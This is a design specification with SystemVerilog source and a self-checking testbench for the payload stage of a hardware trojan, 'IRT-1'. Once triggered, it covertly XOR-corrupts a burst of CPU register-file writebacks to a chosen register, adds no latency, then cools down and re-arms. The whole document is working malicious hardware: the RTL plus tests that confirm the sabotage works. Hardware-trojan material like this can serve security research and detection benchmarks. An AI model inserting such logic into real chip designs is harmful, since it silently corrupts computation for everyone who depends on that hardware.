trj_payload_xor: RTL and testbench
==================================

Name: trj_payload_xor

Overview:
- Payload stage of the IRT-1 trojan. Consumes the registered `trj_trigger` pulse/level from the trigger stage.
- Sits on the integer register-file writeback path. On a trigger rising edge it arms. While armed, it XOR-corrupts up to BURST_LEN writebacks that target a chosen architectural register. It then enters a cooldown and returns to idle.
- All non-targeted writebacks pass through unchanged with zero added latency.

Parameters:
- DATA_W, 64, writeback data width
- TARGET_REG, 5'd10, architectural register index whose writebacks are corrupted (x0 never corrupted, even if selected)
- XOR_MASK, 64'h0000_0000_0000_0001, mask XORed into corrupted writeback data
- BURST_LEN, 4, number of corrupted writebacks per activation (1..255)
- ARM_TIMEOUT, 1024, cycles ARMED may wait for the first matching write before giving up (1..65535)
- COOLDOWN, 16, cycles spent in COOLDOWN before re-arm is possible (1..65535)

Ports:
- clk  in  1  clock, all state updates on posedge
- rst  in  1  synchronous, active-high reset
- trj_trigger  in  1  trigger from trigger stage, already registered
- wb_valid_i  in  1  writeback valid this cycle
- wb_waddr_i  in  5  writeback destination register index
- wb_data_i  in  DATA_W  writeback data from pipeline
- wb_data_o  out  DATA_W  writeback data to register file (combinational)
- payload_active_o  out  1  high when state != IDLE (registered)
- fire_count_o  out  8  saturating total of corrupted writebacks since reset (registered)

Behaviour:
- Reset, synchronous, active-high, checked on posedge clk:
  - state=IDLE, burst_cnt=0, timer=0, fire_count_o=0.
  - trig_q=1, so a trigger held high through reset does not create an edge.
  - payload_active_o=0.
  - wb_data_o=wb_data_i, because state is IDLE.
- Edge detect: trig_q <= trj_trigger every cycle; edge = trj_trigger & ~trig_q.
- Match condition: hit = wb_valid_i & (wb_waddr_i==TARGET_REG) & (wb_waddr_i!=0).
- Corrupt condition: corrupt = (state==ARMED) & hit.
  - wb_data_o = corrupt ? wb_data_i ^ XOR_MASK : wb_data_i.
  - Purely combinational, 0-cycle latency. No other output is combinational.
- IDLE:
  - On edge: go to ARMED, burst_cnt=0, timer=0. Otherwise stay.
- ARMED:
  - Corrupt-and-exit: if corrupt, burst_cnt++ and fire_count_o++ (saturating at 255). If burst_cnt was BURST_LEN-1 on that cycle, go to COOLDOWN with timer=0.
  - Timeout: if burst_cnt==0 and no hit, timer++. When timer reaches ARM_TIMEOUT-1 without a hit, go to IDLE.
  - Once burst_cnt>0 the timeout is disabled, and the block stays ARMED until the burst completes.
  - Timeout and hit in the same cycle: the hit wins and the write is corrupted.
  - Trigger edges are ignored.
- COOLDOWN:
  - timer++ each cycle. When timer reaches COOLDOWN-1, go to IDLE.
  - No corruption. Trigger edges are ignored.
  - A trigger still high on return to IDLE does not re-arm; a new 0->1 transition is required.
- Edge in the final COOLDOWN cycle is lost: the edge is consumed and IDLE does not re-arm from it.
- wb_valid_i=0 never corrupts, regardless of address or data.
- payload_active_o is the registered decode of state and is high in ARMED and COOLDOWN.
- rst asserted mid-burst or mid-cooldown returns to IDLE on that edge.
  - Partially completed bursts are not resumed.
  - fire_count_o clears.

Test Plan:
- Pass-through at reset: rst high 2 cycles, then trj_trigger=0. Drive wb_valid_i=1, waddr=10, data=64'hDEAD_BEEF.
  -> wb_data_o=64'hDEAD_BEEF, payload_active_o=0, fire_count_o=0.
- Full burst: pulse trj_trigger 0->1. Then issue 6 writes to x10 with data 64'h10..15, interleaved with writes to x11.
  -> payload_active_o=1 the cycle after the edge.
  -> First 4 x10 writes output data^1 (64'h11,10,13,12); writes 5-6 unchanged.
  -> x11 writes always unchanged.
  -> fire_count_o=4.
  -> payload_active_o drops 16 cycles after the 4th corrupted write.
- Timeout: trigger edge, then no x10 writes for 1024 cycles.
  -> Back in IDLE (payload_active_o=0) after the timeout.
  -> A subsequent x10 write is unchanged; fire_count_o=0.
- Held trigger and re-arm: hold trj_trigger=1 across a full burst and cooldown.
  -> No second activation.
  -> Drop trigger to 0 and raise it again: re-arms, and the next x10 write is corrupted; fire_count_o=5.
- Boundary conditions:
  - Trigger held high through reset release -> no arming.
  - TARGET_REG=0 build -> writes to x0 never corrupted, state stays ARMED until timeout.
- Mid-operation reset: assert rst after 2 corrupted writes.
  -> Next cycle IDLE, fire_count_o=0, x10 writes unchanged.
- Counter saturation: 70 activations with BURST_LEN=4 -> fire_count_o saturates at 255.

Source files
------------

// File: rtl/trj_payload_xor.sv
// Payload stage of the IRT-1 trojan. After a rising edge on the registered
// trigger it arms, XOR-corrupts up to BURST_LEN writebacks aimed at TARGET_REG,
// then sits out a cooldown before it can be armed again. All other writebacks
// pass through with zero added latency.
module trj_payload_xor #(
    parameter int                 DATA_W      = 64,
    parameter logic [4:0]         TARGET_REG  = 5'd10,
    parameter logic [DATA_W-1:0]  XOR_MASK    = DATA_W'(1),
    parameter int                 BURST_LEN   = 4,
    parameter int                 ARM_TIMEOUT = 1024,
    parameter int                 COOLDOWN    = 16
) (
    input  logic              clk,
    input  logic              rst,
    input  logic              trj_trigger,
    input  logic              wb_valid_i,
    input  logic [4:0]        wb_waddr_i,
    input  logic [DATA_W-1:0] wb_data_i,
    output logic [DATA_W-1:0] wb_data_o,
    output logic              payload_active_o,
    output logic [7:0]        fire_count_o
);

    typedef enum logic [1:0] {
        S_IDLE     = 2'd0,
        S_ARMED    = 2'd1,
        S_COOLDOWN = 2'd2
    } state_t;

    localparam logic [7:0]  BURST_LAST   = 8'(BURST_LEN - 1);
    localparam logic [15:0] TIMEOUT_LAST = 16'(ARM_TIMEOUT - 1);
    localparam logic [15:0] COOL_LAST    = 16'(COOLDOWN - 1);

    state_t      state;
    logic        trig_q;
    logic [7:0]  burst_cnt;
    logic [15:0] timer;

    logic trig_rise;
    logic hit;
    logic corrupt;

    // x0 is hard-wired zero architecturally, so it is excluded even if selected.
    assign trig_rise = trj_trigger & ~trig_q;
    assign hit       = wb_valid_i && (wb_waddr_i == TARGET_REG) && (wb_waddr_i != 5'd0);
    assign corrupt   = (state == S_ARMED) && hit;

    // Writeback data path: same-cycle pass-through or XOR corruption.
    assign wb_data_o = corrupt ? (wb_data_i ^ XOR_MASK) : wb_data_i;

    // Control FSM, edge detector and counters; payload_active_o follows the next state.
    always_ff @(posedge clk) begin
        if (rst) begin
            // NOTE: all sequential state uses non-blocking assignments so every
            // register samples pre-edge values regardless of statement order.
            state            <= S_IDLE;
            trig_q           <= 1'b1;   // a trigger held through reset is not an edge
            burst_cnt        <= 8'd0;
            timer            <= 16'd0;
            fire_count_o     <= 8'd0;
            payload_active_o <= 1'b0;
        end else begin
            // Edges in ARMED/COOLDOWN are consumed here and never replayed in IDLE.
            trig_q <= trj_trigger;
            case (state)
                S_IDLE: begin
                    if (trig_rise) begin
                        state            <= S_ARMED;
                        burst_cnt        <= 8'd0;
                        timer            <= 16'd0;
                        payload_active_o <= 1'b1;
                    end
                end
                S_ARMED: begin
                    if (corrupt) begin
                        // A hit always wins over a coincident timeout.
                        burst_cnt <= burst_cnt + 8'd1;
                        if (fire_count_o != 8'hFF) begin
                            fire_count_o <= fire_count_o + 8'd1;
                        end
                        if (burst_cnt == BURST_LAST) begin
                            state <= S_COOLDOWN;
                            timer <= 16'd0;
                        end
                    end else if (burst_cnt == 8'd0) begin
                        // Timeout only guards the wait for the first hit.
                        if (timer == TIMEOUT_LAST) begin
                            state            <= S_IDLE;
                            payload_active_o <= 1'b0;
                        end else begin
                            timer <= timer + 16'd1;
                        end
                    end
                end
                S_COOLDOWN: begin
                    if (timer == COOL_LAST) begin
                        state            <= S_IDLE;
                        payload_active_o <= 1'b0;
                    end else begin
                        timer <= timer + 16'd1;
                    end
                end
                default: begin
                    state            <= S_IDLE;
                    payload_active_o <= 1'b0;
                end
            endcase
        end
    end

endmodule

// File: tb/tb_trj_payload_xor.sv
// Self-checking bench for trj_payload_xor. Writebacks push their hand-computed
// expected data into a queue; a negedge monitor pops and compares whenever
// wb_valid_i is presented. Status outputs are checked directly by the stimulus.
module tb_trj_payload_xor;

    logic        clk;
    logic        rst;
    logic        trj_trigger;
    logic        wb_valid_i;
    logic [4:0]  wb_waddr_i;
    logic [63:0] wb_data_i;
    logic [63:0] wb_data_o;
    logic        payload_active_o;
    logic [7:0]  fire_count_o;

    // Second instance built with TARGET_REG=0 and short timers.
    logic        z_trigger;
    logic        z_valid;
    logic [4:0]  z_waddr;
    logic [63:0] z_data_i;
    logic [63:0] z_data_o;
    logic        z_active;
    logic [7:0]  z_fire;

    int tests_run = 0;
    int tests_failed = 0;
    logic [63:0] exp_q[$];

    trj_payload_xor u_dut (
        .clk              (clk),
        .rst              (rst),
        .trj_trigger      (trj_trigger),
        .wb_valid_i       (wb_valid_i),
        .wb_waddr_i       (wb_waddr_i),
        .wb_data_i        (wb_data_i),
        .wb_data_o        (wb_data_o),
        .payload_active_o (payload_active_o),
        .fire_count_o     (fire_count_o)
    );

    trj_payload_xor #(
        .TARGET_REG  (5'd0),
        .BURST_LEN   (2),
        .ARM_TIMEOUT (8),
        .COOLDOWN    (4)
    ) u_dut_x0 (
        .clk              (clk),
        .rst              (rst),
        .trj_trigger      (z_trigger),
        .wb_valid_i       (z_valid),
        .wb_waddr_i       (z_waddr),
        .wb_data_i        (z_data_i),
        .wb_data_o        (z_data_o),
        .payload_active_o (z_active),
        .fire_count_o     (z_fire)
    );

    initial clk = 1'b0;
    always #5 clk = ~clk;

    task automatic check(input string name, input logic [63:0] act, input logic [63:0] exp);
        tests_run++;
        if (act !== exp) begin
            tests_failed++;
            $display("FAIL %s: got %h expected %h", name, act, exp);
        end
    endtask

    // Advance one clock; inputs change 1 time unit after the active edge.
    task automatic step(input int n = 1);
        for (int i = 0; i < n; i++) begin
            @(posedge clk);
            #1;
        end
    endtask

    // One writeback cycle with its expected register-file data.
    task automatic wb_write(input logic [4:0] addr, input logic [63:0] data, input logic [63:0] exp);
        wb_valid_i = 1'b1;
        wb_waddr_i = addr;
        wb_data_i  = data;
        exp_q.push_back(exp);
        step();
        wb_valid_i = 1'b0;
        wb_waddr_i = 5'd0;
        wb_data_i  = 64'd0;
    endtask

    // Monitor: compare every presented writeback against the scoreboard.
    always @(negedge clk) begin
        if (wb_valid_i) begin
            if (exp_q.size() == 0) begin
                check("wb_unexpected", wb_data_o, 64'hX);
            end else begin
                check("wb_data", wb_data_o, exp_q.pop_front());
            end
        end
    end

    initial begin
        rst         = 1'b1;
        trj_trigger = 1'b0;
        wb_valid_i  = 1'b0;
        wb_waddr_i  = 5'd0;
        wb_data_i   = 64'd0;
        z_trigger   = 1'b0;
        z_valid     = 1'b0;
        z_waddr     = 5'd0;
        z_data_i    = 64'd0;

        // Pass-through after reset.
        step(2);
        rst = 1'b0;
        check("reset_active", 64'(payload_active_o), 64'd0);
        check("reset_fire", 64'(fire_count_o), 64'd0);
        wb_write(5'd10, 64'hDEAD_BEEF, 64'hDEAD_BEEF);
        check("idle_active", 64'(payload_active_o), 64'd0);

        // Full burst with interleaved x11 writes.
        trj_trigger = 1'b1;
        step();
        trj_trigger = 1'b0;
        check("arm_active", 64'(payload_active_o), 64'd1);
        wb_valid_i = 1'b0;
        wb_waddr_i = 5'd10;
        wb_data_i  = 64'h77;
        #1;
        check("invalid_no_corrupt", wb_data_o, 64'h77);
        wb_write(5'd10, 64'h10, 64'h11);
        wb_write(5'd11, 64'hAA, 64'hAA);
        wb_write(5'd10, 64'h11, 64'h10);
        wb_write(5'd11, 64'hBB, 64'hBB);
        wb_write(5'd10, 64'h12, 64'h13);
        wb_write(5'd10, 64'h13, 64'h12);
        check("burst_fire", 64'(fire_count_o), 64'd4);
        check("cool_active", 64'(payload_active_o), 64'd1);
        wb_write(5'd10, 64'h14, 64'h14);
        wb_write(5'd10, 64'h15, 64'h15);
        step(13);
        check("cool_last_active", 64'(payload_active_o), 64'd1);
        step();
        check("cool_done_active", 64'(payload_active_o), 64'd0);
        check("burst_fire_final", 64'(fire_count_o), 64'd4);

        // Trigger held high through reset release must not arm.
        trj_trigger = 1'b1;
        rst = 1'b1;
        step(2);
        rst = 1'b0;
        step(2);
        check("held_reset_active", 64'(payload_active_o), 64'd0);
        wb_write(5'd10, 64'h5, 64'h5);

        // Timeout: arm, then no target writes for ARM_TIMEOUT cycles.
        trj_trigger = 1'b0;
        step();
        trj_trigger = 1'b1;
        step();
        trj_trigger = 1'b0;
        check("to_armed", 64'(payload_active_o), 64'd1);
        step(1023);
        check("to_last_armed", 64'(payload_active_o), 64'd1);
        step();
        check("to_idle", 64'(payload_active_o), 64'd0);
        wb_write(5'd10, 64'h99, 64'h99);
        check("to_fire", 64'(fire_count_o), 64'd0);

        // Held trigger across a full burst and cooldown, then re-arm.
        trj_trigger = 1'b1;
        step();
        wb_write(5'd10, 64'h20, 64'h21);
        wb_write(5'd10, 64'h21, 64'h20);
        wb_write(5'd10, 64'h22, 64'h23);
        wb_write(5'd10, 64'h23, 64'h22);
        step(20);
        check("held_no_rearm", 64'(payload_active_o), 64'd0);
        wb_write(5'd10, 64'h24, 64'h24);
        check("held_fire", 64'(fire_count_o), 64'd4);
        trj_trigger = 1'b0;
        step();
        trj_trigger = 1'b1;
        step();
        check("rearm_active", 64'(payload_active_o), 64'd1);
        wb_write(5'd10, 64'h30, 64'h31);
        check("rearm_fire", 64'(fire_count_o), 64'd5);

        // Mid-burst reset after two corrupted writes of this activation.
        wb_write(5'd10, 64'h40, 64'h41);
        check("mid_fire", 64'(fire_count_o), 64'd6);
        rst = 1'b1;
        step();
        rst = 1'b0;
        check("mid_rst_active", 64'(payload_active_o), 64'd0);
        check("mid_rst_fire", 64'(fire_count_o), 64'd0);
        wb_write(5'd10, 64'h50, 64'h50);
        trj_trigger = 1'b0;
        step();

        // Saturation: 70 activations of 4 corrupted writes each.
        for (int a = 0; a < 70; a++) begin
            trj_trigger = 1'b1;
            step();
            trj_trigger = 1'b0;
            for (int w = 0; w < 4; w++) begin
                wb_write(5'd10, 64'(a * 8 + w), 64'(a * 8 + w) ^ 64'd1);
            end
            step(16);
            if (a == 62) check("sat_252", 64'(fire_count_o), 64'd252);
        end
        check("sat_255", 64'(fire_count_o), 64'd255);
        check("sat_idle", 64'(payload_active_o), 64'd0);

        // TARGET_REG=0 build: x0 writes never corrupted, times out to IDLE.
        z_trigger = 1'b1;
        step();
        check("x0_armed", 64'(z_active), 64'd1);
        z_valid  = 1'b1;
        z_waddr  = 5'd0;
        z_data_i = 64'h5;
        #1;
        check("x0_no_corrupt", z_data_o, 64'h5);
        step();
        z_valid = 1'b0;
        step(6);
        check("x0_still_armed", 64'(z_active), 64'd1);
        step();
        check("x0_timeout", 64'(z_active), 64'd0);
        check("x0_fire", 64'(z_fire), 64'd0);

        step(2);
        check("scoreboard_empty", 64'(exp_q.size()), 64'd0);
        $display("[TB] %0d tests run, %0d failed", tests_run, tests_failed);
        $finish;
    end

endmodule
